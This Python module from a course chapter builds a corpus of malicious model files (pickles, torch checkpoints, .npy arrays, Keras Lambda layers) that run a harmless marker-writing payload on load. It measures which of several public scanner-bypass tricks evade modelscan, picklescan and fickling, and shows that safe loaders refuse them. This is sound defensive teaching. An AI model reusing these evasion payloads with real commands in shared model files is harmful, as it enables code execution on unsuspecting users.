"""A model file is code: a corpus of model files that run a payload when loaded, and what scanners and safe loaders
make of them (chapter 12).

A pickle is not data but a small program for a stack machine: its GLOBAL/STACK_GLOBAL opcodes import any callable and
REDUCE calls it. `torch.load(weights_only=False)`, `pickle.load`, `np.load(allow_pickle=True)` and `joblib.load` run
that program, and a Keras `Lambda` layer carries Python bytecode that runs when the model is rebuilt. Scanners
(modelscan, picklescan, fickling) read the opcodes without running them and compare the imports with a list; each
variant in `build_corpus` is a trick from a public report that gets past at least one of them, or a plain payload
that all of them should catch. The table that `detection_table` measures is the lesson: a scanner is a tripwire, not a
guarantee; the defence is a loader that cannot run code (`safe_loading`): weights_only=True, allow_pickle=False,
safe_mode=True, or a data-only format (safetensors, ONNX).

Every payload here only creates the empty file `marker` (a path the caller gives, in a temporary folder): nothing
else, no network, nothing deleted. Building the corpus never runs a payload (a payload is written as opcodes or as an
object whose `__reduce__` names the callable; pickling calls `__reduce__`, not the callable), and neither does
scanning it: the tests check that the marker is still absent after both, and that loading each file the unsafe way
does create it, so every file in the corpus is proven to be malicious.
"""

from __future__ import annotations

import io
import json
import logging
import os
import pickle
import shlex
import struct
import sys
import warnings
import zipfile
from collections import OrderedDict
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import numpy as np

ALL_SCANNERS = ("modelscan", "picklescan", "fickling")
# modelscan 0.8.8 installs on Python 3.10-3.12 only (requirements.txt): elsewhere the tables leave it out, and chapter
# 12 says so by name
UNAVAILABLE = {"modelscan": "modelscan 0.8.8 supports Python 3.10-3.12 only"} if sys.version_info >= (3, 13) else {}
SCANNERS = tuple(s for s in ALL_SCANNERS if s not in UNAVAILABLE)
MALICIOUS_OUTCOMES = ("caught", "missed", "error", "not scanned")  # an error's cell reads "error (<why>)"
BENIGN_OUTCOMES = ("clean", "false alarm", "error", "not scanned")
WEIGHTS = {"dense.weight": np.arange(6, dtype=np.float32).reshape(2, 3) / 10, "dense.bias": np.zeros(2, np.float32)}


@dataclass(frozen=True)
class Sample:
    name: str
    path: Path
    malicious: bool
    technique: str  # one sentence a learner understands, naming the public report it comes from
    format: str


@dataclass
class Verdict:
    flagged: bool | None  # None: the scanner errored on the file or did not scan it
    detail: str
    skipped: bool = False  # True when the scanner does not read this kind of file (flagged is then None)


# --------------------------------------------------------------------------- payloads


def shell_command(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def python_code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


class Reduce:
    """Pickles as `func(*args)`: the pickler asks for `__reduce__` and writes the callable's name and its arguments as
    opcodes; nothing is called until an unpickler runs them."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def os_system(marker: Path) -> Reduce:
    return Reduce(os.system, shell_command(marker))


# a hand-written pickle: the opcodes a real pickler never emits are the point of some variants
PROTO4, STOP, STACK_GLOBAL, REDUCE, TUPLE1, TUPLE2, EMPTY_TUPLE, POP = b"\x80\x04", b".", b"\x93", b"R", b"\x85", b"\x86", b")", b"0"


def text(s: str) -> bytes:
    data = s.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def binstring(s: str) -> bytes:
    """SHORT_BINSTRING: a Python 2 byte string, which Python 3's unpickler decodes to str (encoding="ASCII")."""
    return b"U" + bytes([len(s)]) + s.encode()


def put(i: int) -> bytes:
    return b"q" + bytes([i])


def get(i: int) -> bytes:
    return b"h" + bytes([i])


def memo_confusion(marker: Path) -> bytes:
    """posix.system(cmd) where STACK_GLOBAL's operands come from memo slots that were filled by BINPUT right after a
    BINGET: the scanners record the memo slot as the previous opcode's argument (the integer of BINGET), the unpickler
    stores what is on the stack ("posix", "system")."""
    return (PROTO4 + text("posix") + put(0) + text("system") + put(1) + POP + POP
            + get(0) + put(2) + get(1) + put(3) + POP + POP
            + get(2) + get(3) + STACK_GLOBAL + text(shell_command(marker)) + TUPLE1 + REDUCE + STOP)


def bytes_operands(marker: Path) -> bytes:
    return (PROTO4 + binstring("posix") + binstring("system") + STACK_GLOBAL
            + text(shell_command(marker)) + TUPLE1 + REDUCE + STOP)


def subinterpreter(marker: Path) -> bytes:
    """_xxsubinterpreters.run_string(_xxsubinterpreters.create(), code): Python source run in a fresh interpreter."""
    module = "_interpreters" if sys.version_info >= (3, 13) else "_xxsubinterpreters"
    return (PROTO4 + text(module) + text("run_string") + STACK_GLOBAL
            + text(module) + text("create") + STACK_GLOBAL + EMPTY_TUPLE + REDUCE
            + text(python_code(marker)) + TUPLE2 + REDUCE + STOP)


def import_then_call(marker: Path) -> Reduce:
    """operator.methodcaller("system", cmd)(importlib.import_module("os")): no GLOBAL opcode names os at all."""
    import importlib
    import operator

    return Reduce(operator.methodcaller("system", shell_command(marker)), Reduce(importlib.import_module, "os"))


def pickle_bytes(obj, protocol: int = 4) -> bytes:
    return pickle.dumps(obj, protocol=protocol)


# --------------------------------------------------------------------------- file writers


def write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def torch_checkpoint(path: Path, extra=None) -> Path:
    """A real torch.save zip of a tiny Linear layer's state_dict; `extra` (a payload) rides along as one more entry."""
    import torch

    state = OrderedDict((k, torch.from_numpy(v.copy())) for k, v in WEIGHTS.items())  # what Module.state_dict() returns
    if extra is not None:
        state["_metadata_hook"] = extra  # torch.load(weights_only=False) unpickles every entry, this one included
    path.parent.mkdir(parents=True, exist_ok=True)
    torch.save(state, path)
    return path


def renamed_archive_folder(path: Path, folder: str) -> Path:
    """Rewrite a torch zip so its members live under `folder/` instead of `archive/`: torch reads any top folder."""
    with zipfile.ZipFile(path) as source:
        members = [(info, source.read(info)) for info in source.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as target:
        for info, data in members:
            target.writestr(folder + "/" + info.filename.split("/", 1)[1], data)
    return path


def npy_with_object(path: Path, payload) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    array = np.empty(2, dtype=object)
    array[0], array[1] = "label", payload
    np.save(path, array, allow_pickle=True)  # an object array is stored as a pickle after the .npy header
    return path


def keras_model(path: Path, lambda_payload: Path | None = None) -> Path:
    """A tiny Keras model saved as .keras (a zip: config.json, model.weights.h5, metadata.json). With `lambda_payload`
    a Lambda layer is added whose function, in config.json, is the marshalled bytecode of a function writing that
    marker. The model is built with an identity Lambda and the payload's bytecode is put in config.json afterwards:
    building a model with the payload itself would call it."""
    import keras
    from keras.src.utils.python_utils import func_dump

    inputs = keras.Input((3,), name="features")
    outputs = keras.layers.Dense(2, name="dense")(inputs)
    if lambda_payload is not None:
        outputs = keras.layers.Lambda(lambda x: x, name="preprocess")(outputs)
    path.parent.mkdir(parents=True, exist_ok=True)
    keras.Model(inputs, outputs).save(path)
    if lambda_payload is None:
        return path
    code, defaults, closure = func_dump(_lambda_with_marker(lambda_payload))  # marshal of code, no call
    with zipfile.ZipFile(path) as source:
        members = {info.filename: source.read(info) for info in source.infolist()}
    config = json.loads(members["config.json"])
    for layer in config["config"]["layers"]:
        if layer["class_name"] == "Lambda":
            layer["config"]["function"]["config"] = {"code": code, "defaults": defaults, "closure": closure}
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as target:
        for name, data in members.items():
            target.writestr(name, data)
    return path


def _lambda_with_marker(marker: Path):
    """The Lambda's function, compiled from source with the marker's path as a constant (Keras stores code, not
    defaults it can read back as a tuple). Compiling defines the function; nothing calls it here."""
    source = f"def preprocess(x):\n    open({str(marker)!r}, 'w').close()\n    return x\n"
    namespace: dict = {}
    exec(compile(source, "<keras lambda payload>", "exec"), namespace)  # a `def`, not a call
    return namespace["preprocess"]


def onnx_model(path: Path) -> Path:
    """The same Dense layer as an ONNX graph (Gemm with its weights as initializers): a protobuf, data only."""
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    graph = helper.make_graph(
        [helper.make_node("Gemm", ["x", "W", "b"], ["y"], transB=1)], "dense",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 3])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 2])],
        [numpy_helper.from_array(WEIGHTS["dense.weight"], "W"), numpy_helper.from_array(WEIGHTS["dense.bias"], "b")])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    path.parent.mkdir(parents=True, exist_ok=True)
    onnx.save(model, path)
    return path


def safetensors_file(path: Path) -> Path:
    from safetensors.numpy import save_file

    path.parent.mkdir(parents=True, exist_ok=True)
    save_file(WEIGHTS, str(path))
    return path


# --------------------------------------------------------------------------- the corpus


def build_corpus(directory: Path, marker: Path) -> list[Sample]:
    """Write every sample to `directory/<name>/<file>` (so two can share a file name) and return them, malicious first.
    Nothing here runs a payload: `marker` must not exist afterwards."""
    import pydoc
    import runpy
    import subprocess
    import time
    import timeit

    directory, marker = Path(directory), Path(marker)
    cmd, code = shell_command(marker), python_code(marker)
    samples: list[Sample] = []

    def add(name, path, technique, fmt, malicious=True):
        samples.append(Sample(name, Path(path), malicious, technique, fmt))

    def at(name, file):
        return directory / name / file

    add("os_system", write(at("os_system", "payload.pkl"), pickle_bytes(os_system(marker))),
        "The classic: __reduce__ returns os.system and a shell command, which pickle.load calls.", "pickle")
    add("torch_checkpoint", torch_checkpoint(at("torch_checkpoint", "model.pt"), os_system(marker)),
        "A real torch.save checkpoint (zip) whose state_dict has one extra entry that calls os.system.", "torch (zip)")
    add("builtins_exec", write(at("builtins_exec", "payload.pkl"), pickle_bytes(Reduce(exec, code))),
        "builtins.exec runs any Python source: no shell, no os module in the file.", "pickle")
    add("subprocess_run", write(at("subprocess_run", "payload.pkl"), pickle_bytes(Reduce(subprocess.run, ["touch", str(marker)]))),
        "subprocess.run starts a program directly.", "pickle")
    add("timeit_setup", write(at("timeit_setup", "payload.pkl"),
                              pickle_bytes(Reduce(timeit.timeit, "pass", code, time.perf_counter, 1))),
        "timeit.timeit runs its `setup` string as Python code (picklescan GHSA-v7x6-rv5q-mhwc; not on modelscan's list).",
        "pickle")
    add("pydoc_pipepager", write(at("pydoc_pipepager", "payload.pkl"), pickle_bytes(Reduce(pydoc.pipepager, "", cmd))),
        "pydoc.pipepager pipes text into a shell command (picklescan lists pydoc since its bypass reports; modelscan does not).",
        "pickle")
    add("cprofile_run", write(at("cprofile_run", "payload.pkl"), pickle_bytes(Reduce(_cprofile_run(), code, str(marker)))),
        "cProfile.run exec()s its statement (picklescan GHSA-46h3-79wf-xr6c, fickling PR #210); modelscan does not list it.",
        "pickle")
    add("runpy_run_code", write(at("runpy_run_code", "payload.pkl"), pickle_bytes(Reduce(runpy._run_code, code, {}))),
        "runpy._run_code, a private helper that exec()s a string.", "pickle")
    add("import_module_methodcaller", write(at("import_module_methodcaller", "payload.pkl"), pickle_bytes(import_then_call(marker))),
        "importlib.import_module('os') then operator.methodcaller('system', cmd): two harmless-looking names "
        "(picklescan issue #66, PR #74).", "pickle")
    add("subinterpreter_run_string", write(at("subinterpreter_run_string", "payload.pkl"), subinterpreter(marker)),
        "_xxsubinterpreters.run_string runs Python source in a sub-interpreter (fickling GHSA-6ggj-6f2q-f7mx).", "pickle")
    add("protocol0_global", write(at("protocol0_global", "payload.pkl"), pickle_bytes(os_system(marker), protocol=0)),
        "The same os.system call as a protocol-0 text pickle (the GLOBAL opcode, 'cposix\\nsystem').", "pickle")
    add("stack_global_memo_confusion", write(at("stack_global_memo_confusion", "payload.pkl"), memo_confusion(marker)),
        "STACK_GLOBAL reads 'posix'/'system' from memo slots a scanner records as integers (picklescan #14, PR #52; "
        "modelscan #338).", "pickle")
    add("stack_global_bytes_operands", write(at("stack_global_bytes_operands", "payload.pkl"), bytes_operands(marker)),
        "STACK_GLOBAL's operands pushed as Python 2 byte strings (SHORT_BINSTRING), which Python 3 decodes to str.",
        "pickle")
    garbage = pickle_bytes(os_system(marker), protocol=2)[:-1] + b"\xff\xfenot a pickle any more"
    add("payload_then_garbage", write(at("payload_then_garbage", "payload.pkl"), garbage),
        "The payload runs, then the stream turns to garbage: the load fails, but only after the command ran.", "pickle")
    add("raw_pickle_as_pt", write(at("raw_pickle_as_pt", "model.pt"), pickle_bytes(os_system(marker))),
        "A raw pickle named model.pt: no torch magic number, so a scanner that checks it first skips the file, while "
        "torch.load unpickles it to read the magic number.", "pickle (named .pt)")
    add("raw_pickle_as_bin", write(at("raw_pickle_as_bin", "pytorch_model.bin"), pickle_bytes(os_system(marker))),
        "The same raw pickle named pytorch_model.bin, the Hugging Face checkpoint name.", "pickle (named .bin)")
    renamed = renamed_archive_folder(torch_checkpoint(at("torch_zip_renamed_folder", "model.pt"), os_system(marker)), "weights_v2")
    add("torch_zip_renamed_folder", renamed,
        "A torch zip whose members are under weights_v2/ instead of archive/: torch accepts any top folder.", "torch (zip)")
    add("torch_checkpoint_pipepager", torch_checkpoint(at("torch_checkpoint_pipepager", "model.pt"), Reduce(pydoc.pipepager, "", cmd)),
        "A real torch checkpoint carrying pydoc.pipepager instead of os.system.", "torch (zip)")
    add("keras_lambda", keras_model(at("keras_lambda", "model.keras"), lambda_payload=marker),
        "A .keras model with a Lambda layer: its config holds Python bytecode, run when the model is rebuilt "
        "(load_model refuses it unless safe_mode=False).", "keras")
    add("numpy_object_array", npy_with_object(at("numpy_object_array", "features.npy"), os_system(marker)),
        "A .npy object array: its elements are a pickle, run by np.load(allow_pickle=True).", "numpy .npy")

    add("state_dict", torch_checkpoint(at("state_dict", "model.pt")), "torch.save of a Linear layer's state_dict.",
        "torch (zip)", malicious=False)
    add("numpy_dict_pickle", write(at("numpy_dict_pickle", "weights.pkl"), pickle_bytes(WEIGHTS)),
        "A plain pickle of a dict of numpy arrays (imports numpy's array rebuilders).", "pickle", malicious=False)
    add("onnx_model", onnx_model(at("onnx_model", "model.onnx")), "The same layer as an ONNX graph.", "onnx", malicious=False)
    add("safetensors_weights", safetensors_file(at("safetensors_weights", "model.safetensors")),
        "The same weights as safetensors: a JSON header and raw tensors.", "safetensors", malicious=False)
    add("keras_plain", keras_model(at("keras_plain", "model.keras")), "A .keras model without a Lambda layer.", "keras",
        malicious=False)
    return samples


def _cprofile_run():
    import cProfile

    return cProfile.run  # run(statement, filename): the profile stats go to `filename` (the marker), not to stdout


# --------------------------------------------------------------------------- loading the unsafe way (for the tests)


def load_unsafely(sample: Sample):
    """Load `sample` the way a careless user would, running whatever it carries. Only for files in a temporary folder
    whose payload writes a marker there: the tests call it to prove every malicious sample is malicious."""
    path = sample.path
    if sample.format == "keras":
        import keras

        return keras.saving.load_model(path, safe_mode=False)
    if sample.format == "numpy .npy":
        return np.load(path, allow_pickle=True)
    if sample.format.startswith("torch") or path.suffix in (".pt", ".bin"):
        import torch

        return torch.load(path, weights_only=False)
    with open(path, "rb") as f:
        return pickle.load(f)


# --------------------------------------------------------------------------- scanners


@contextmanager
def quiet_scanners():
    """The scanners log a warning per dangerous import and a traceback per parse error: the table says it better."""
    names = ("modelscan", "picklescan", "fickling", "absl", "tensorflow")
    loggers = {name: logging.getLogger(name) for name in names}
    levels = {name: logger.level for name, logger in loggers.items()}
    for logger in loggers.values():
        logger.setLevel(logging.CRITICAL + 1)
    try:
        yield
    finally:
        for name, logger in loggers.items():
            logger.setLevel(levels[name])


def scan(sample_or_path: Sample | Path, scanner: str) -> Verdict:
    """Scan one file with one of SCANNERS, in this process, without loading it. flagged=None means it errored or skipped
    the file; the detail says which and why."""
    path = Path(sample_or_path.path if isinstance(sample_or_path, Sample) else sample_or_path)
    scanners = {"modelscan": scan_modelscan, "picklescan": scan_picklescan, "fickling": scan_fickling}
    with quiet_scanners():
        try:
            return scanners[scanner](path)
        except Exception as e:  # a scanner that crashes lets the file through: that is a result, not a test failure
            return Verdict(None, f"{type(e).__name__}: {first_line(e)}")


def first_line(error: BaseException) -> str:
    return (str(error).strip().splitlines() or [type(error).__name__])[0][:160]


def scan_modelscan(path: Path) -> Verdict:
    from modelscan.modelscan import ModelScan

    report = ModelScan().scan(path)
    summary = report["summary"]
    if summary["total_issues"]:
        found = sorted({f"{i['module']}.{i['operator']}" if "operator" in i else i.get("description", "?")
                        for i in report["issues"]})
        return Verdict(True, f"{summary['total_issues']} issue(s): {', '.join(found)}"[:160])
    if report["errors"]:
        return Verdict(None, report["errors"][0].get("description", "error")[:160])
    if not summary["scanned"]["total_scanned"]:
        skipped = summary["skipped"]["skipped_files"]
        return Verdict(None, skipped[0]["description"] if skipped else "nothing scanned", skipped=True)
    return Verdict(False, f"{summary['scanned']['total_scanned']} part(s) scanned, no issue")


def scan_picklescan(path: Path) -> Verdict:
    from picklescan.scanner import scan_file_path

    result = scan_file_path(str(path))
    dangerous = sorted({f"{g.module}.{g.name}" for g in result.globals if g.safety.value == "dangerous"})
    suspicious = sorted({f"{g.module}.{g.name}" for g in result.globals if g.safety.value == "suspicious"})
    if result.issues_count:
        return Verdict(True, f"dangerous: {', '.join(dangerous)}"[:160])
    if result.scan_err:
        return Verdict(None, "parse error, no dangerous import found")
    if not result.globals and not contains_pickle(path):
        return Verdict(None, "no pickle in this format", skipped=True)
    # picklescan's own exit code is 0 for "suspicious" imports (neither allowed nor denied) unless --strict
    return Verdict(False, f"no dangerous import; suspicious: {', '.join(suspicious)}"[:160] if suspicious else "no dangerous import")


def fickling_analyzer():
    """fickling's default analyses, with its ML allowlist (fickling.ml.MLAllowlist) in place of NonStandardImports,
    which flags every non-stdlib import, torch's tensor rebuilders included. This is "ML allowlist" mode."""
    from fickling.analysis import Analysis, Analyzer, NonStandardImports
    from fickling.ml import MLAllowlist

    return Analyzer([a for a in Analysis.ALL if not isinstance(a, NonStandardImports)] + [MLAllowlist()])


FICKLING_MODE = "check_safety, ML allowlist instead of NonStandardImports"
FICKLING_ZIP_MEMBERS = (".pkl", ".pickle", ".bin")  # what fickling.scan_zip_archive (and its CLI) reads in a zip


def scan_fickling(path: Path) -> Verdict:
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            parts = [(info.filename, archive.read(info)) for info in archive.infolist()
                     if Path(info.filename).suffix.lower() in FICKLING_ZIP_MEMBERS]
        if not parts:
            return Verdict(None, "zip without pickle members", skipped=True)
    elif path.read_bytes()[:6] == b"\x93NUMPY":
        return Verdict(None, "fickling's CLI does not scan .npy files", skipped=True)
    elif not contains_pickle(path):
        return Verdict(None, "no pickle in this format", skipped=True)
    else:
        parts = [(path.name, path.read_bytes())]
    findings = [finding for name, data in parts for finding in fickling_findings(data)]
    if findings:
        return Verdict(True, "; ".join(sorted(set(findings)))[:160])
    return Verdict(False, "likely safe")


def fickling_findings(data: bytes) -> list[str]:
    from fickling.analysis import Severity, check_safety
    from fickling.fickle import StackedPickle

    analyzer = fickling_analyzer()
    findings = []
    for pickled in StackedPickle.load(io.BytesIO(data), fail_on_decode_error=False):
        if pickled.has_invalid_opcode:
            findings.append("invalid opcode")  # fickling.is_likely_safe treats an unparsable pickle as unsafe
        results = check_safety(pickled, analyzer=analyzer)
        if results.severity > Severity.LIKELY_SAFE:
            findings.append(f"{results.severity.name}: " + ", ".join(sorted({r.analysis_name or "?" for r in results.results if r.severity > Severity.LIKELY_SAFE})))
    return findings


def contains_pickle(path: Path) -> bool:
    """Whether the file is, starts with, or (a zip) holds a pickle: what a pickle scanner can read at all."""
    head = path.read_bytes()[:8]
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            return any(n.endswith((".pkl", ".pickle")) or archive.read(n)[:1] == b"\x80" for n in archive.namelist())
    if head.startswith(b"\x93NUMPY"):
        return True
    return head[:1] == b"\x80" or head[:1] in (b"c", b"(", b"]", b"}")  # protocol 2+ header, or a protocol-0 opcode


# --------------------------------------------------------------------------- the tables


def outcome(verdict: Verdict, malicious: bool) -> str:
    if verdict.skipped:
        return "not scanned"
    if verdict.flagged is None:
        return f"error ({verdict.detail})" if malicious else "error"
    if malicious:
        return "caught" if verdict.flagged else "missed"
    return "false alarm" if verdict.flagged else "clean"


def detection_table(samples: list[Sample], scanners=SCANNERS, verdicts: dict | None = None):
    """One row per sample (name, format, malicious, technique) and one column per scanner: caught / missed /
    error (...) / not scanned for a malicious file, clean / false alarm / error / not scanned for a benign one.
    `verdicts`, if given, collects every Verdict by (sample name, scanner) for the details."""
    import pandas as pd

    rows = []
    for sample in samples:
        row = {"name": sample.name, "format": sample.format, "malicious": sample.malicious, "technique": sample.technique}
        for scanner in scanners:
            verdict = scan(sample, scanner)
            if verdicts is not None:
                verdicts[sample.name, scanner] = verdict
            row[scanner] = outcome(verdict, sample.malicious)
        rows.append(row)
    return pd.DataFrame(rows)


def catch_rates(table, scanners=SCANNERS):
    """Per scanner: malicious files caught and missed (an error or a skipped file counts as missed: the file got
    through), false alarms on benign files, and the catch rate over all malicious files."""
    import pandas as pd

    bad, good = table[table["malicious"]], table[~table["malicious"]]
    rows = []
    for scanner in scanners:
        caught = int((bad[scanner] == "caught").sum())
        rows.append({"scanner": scanner, "caught": caught, "missed (incl. errors, skips)": len(bad) - caught,
                     "of which errors": int(bad[scanner].str.startswith("error").sum()),
                     "of which not scanned": int((bad[scanner] == "not scanned").sum()),
                     "false alarms": int((good[scanner] == "false alarm").sum()),
                     "catch rate": caught / len(bad) if len(bad) else float("nan")})
    return pd.DataFrame(rows).set_index("scanner")


# --------------------------------------------------------------------------- the safe loaders


@contextmanager
def weights_only_default():
    """TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1 makes torch.load ignore weights_only=True: make sure it is not set here."""
    saved = {k: os.environ.pop(k) for k in ("TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD", "TORCH_FORCE_WEIGHTS_ONLY_LOAD")
             if k in os.environ}
    try:
        yield
    finally:
        os.environ.update(saved)


def safe_loading(sample: Sample, marker: Path) -> str:
    """What the format's safe loader does with `sample`: "loaded (...)" or "refused: <first line of its error>".
    A torch file or raw pickle goes to torch.load(weights_only=True) (its unpickler allows tensors, containers and
    primitives only), .npy to np.load(allow_pickle=False), .keras to load_model(safe_mode=True), ONNX to onnx.load,
    safetensors to safetensors' loader; none of them can call a callable from the file. `marker` is for the caller's
    check that nothing ran."""
    path = sample.path
    with weights_only_default(), warnings.catch_warnings():
        warnings.simplefilter("ignore")  # torch warns about protocol 4 pickles before refusing them
        try:
            if sample.format == "keras":
                import keras

                model = keras.saving.load_model(path, safe_mode=True)
                return f"loaded: keras.saving.load_model(safe_mode=True), {len(model.layers)} layers"
            if sample.format == "numpy .npy":
                np.load(path, allow_pickle=False)
                return "loaded: np.load(allow_pickle=False)"
            if sample.format == "onnx":
                import onnx

                model = onnx.load(path)
                return f"loaded: onnx.load, {len(model.graph.node)} node(s)"
            if sample.format == "safetensors":
                from safetensors.numpy import load_file

                return f"loaded: safetensors, {len(load_file(str(path)))} tensors"
            import torch

            value = torch.load(path, weights_only=True)
            return f"loaded: torch.load(weights_only=True), {type(value).__name__}"
        except Exception as e:
            return f"refused: {refusal_reason(e)}"


def refusal_reason(error: BaseException) -> str:
    """torch's refusal opens with a paragraph of advice ("Weights only load failed..."); the reason is the first line
    after it: the global it refused ("Trying to load unsupported GLOBAL posix.system ...") or, after "WeightsUnpickler
    error:", an opcode its unpickler does not accept (protocol 4's FRAME is 149)."""
    import re

    text = re.sub(r"\x1b\[[0-9;]*m", "", str(error))
    if "WeightsUnpickler error:" in text:
        text = text.split("WeightsUnpickler error:", 1)[1]
    elif text.startswith("Weights only load failed"):
        text = text.split("\n", 1)[-1]
    lines = [line.strip() for line in text.splitlines()]
    return next((line[:200] for line in lines if line and not line.startswith("Check the documentation")), first_line(error))


def safe_loading_table(samples: list[Sample], marker: Path):
    """One row per sample: its safe loader's outcome and whether `marker` exists afterwards (it must never)."""
    import pandas as pd

    marker = Path(marker)
    rows = []
    for sample in samples:
        result = safe_loading(sample, marker)
        rows.append({"name": sample.name, "format": sample.format, "malicious": sample.malicious,
                     "safe loader": result, "marker written": marker.exists()})
    return pd.DataFrame(rows)


# --------------------------------------------------------------------------- reading a pickle's imports

UNREADABLE = "<unreadable opcodes>"  # reported as an import: what a reader cannot parse, it cannot vouch for


def pickle_globals(program: bytes) -> set[str]:
    """Every `module.name` the pickle `program` imports, read from its opcodes without running them.

    GLOBAL and INST carry the name as their argument; STACK_GLOBAL takes the two values on top of the stack, which the
    loop below tracks, memo included: a string stored with PUT/MEMOIZE and read back with GET reaches STACK_GLOBAL too
    (the memo trick of the corpus's `stack_global_memo_confusion`). Operands that are not two strings are reported as
    "?.?", and a stream that stops parsing (trailing garbage) adds UNREADABLE: an allowlist refuses both."""
    import pickletools

    mark = object()
    found, stack, memo = set(), [], {}
    try:
        for opcode, argument, _ in pickletools.genops(program):
            name = opcode.name
            if name in ("GLOBAL", "INST"):
                found.add(argument.replace(" ", "."))
            if name in ("PUT", "BINPUT", "LONG_BINPUT"):
                memo[argument] = stack[-1] if stack else None
            elif name == "MEMOIZE":
                memo[len(memo)] = stack[-1] if stack else None
            elif name in ("GET", "BINGET", "LONG_BINGET"):
                stack.append(memo.get(argument))
            elif name == "STACK_GLOBAL":
                attribute, module = (stack.pop() if stack else None), (stack.pop() if stack else None)
                imported = f"{module}.{attribute}" if isinstance(module, str) and isinstance(attribute, str) else "?.?"
                found.add(imported)
                stack.append(imported)
            else:  # any other opcode: pop what it consumes (through the mark, for the MARK-based ones), push what it makes
                consumed = opcode.stack_before
                if pickletools.markobject in consumed:
                    while stack and stack.pop() is not mark:
                        pass
                    consumed = consumed[:consumed.index(pickletools.markobject)]
                del stack[len(stack) - min(len(consumed), len(stack)):]
                for _ in opcode.stack_after:
                    value = argument.decode("latin-1") if isinstance(argument, bytes) else argument
                    stack.append(mark if name == "MARK" else value if isinstance(value, str) else None)
    except ValueError:  # an opcode pickletools cannot read: pickle.load would have run everything before it
        found.add(UNREADABLE)
    return found


def pickle_programs(sample: Sample) -> list[bytes]:
    """The pickles a sample's file holds: the whole file for a raw pickle, each .pkl member of a zip (a torch
    checkpoint's data.pkl), the body after the header of a .npy object array; none for Keras, ONNX, safetensors."""
    path = sample.path
    if sample.format in ("keras", "onnx", "safetensors"):
        return []
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            return [archive.read(n) for n in archive.namelist() if n.endswith((".pkl", ".pickle"))]
    if sample.format == "numpy .npy":
        with open(path, "rb") as f:
            major, _ = np.lib.format.read_magic(f)
            read_header = np.lib.format.read_array_header_1_0 if major == 1 else np.lib.format.read_array_header_2_0
            read_header(f)
            return [f.read()]
    return [path.read_bytes()]
